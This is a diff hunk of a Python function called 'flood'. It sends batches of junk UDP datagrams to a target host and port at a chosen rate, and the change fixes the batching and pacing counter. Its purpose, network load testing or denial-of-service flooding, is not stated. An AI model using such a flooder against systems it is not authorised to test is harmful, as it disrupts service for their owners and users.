@@ -33,17 +33,18 @@ def junk(seed: int = 7) -> list[bytes]:
 
 def flood(target: tuple[str, int], packets: int, a_second: int = A_SECOND) -> int:
     """Send so many at that pace, or as fast as the machine can; how many left."""
-    datagrams, left, number = junk(), 0, 0
+    datagrams, left, done = junk(), 0, 0
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
         began = time.monotonic()
-        while number < packets:
-            for number in range(number + 1, min(number + BATCH, packets) + 1):
+        while done < packets:
+            for number in range(done, min(done + BATCH, packets)):
                 try:
                     sock.sendto(datagrams[number % len(datagrams)], target)
                 except OSError:
                     continue
                 left += 1
-            time.sleep(max(0.0, number / a_second - (time.monotonic() - began)))
+            done += BATCH
+            time.sleep(max(0.0, done / a_second - (time.monotonic() - began)))
     return left
 
 
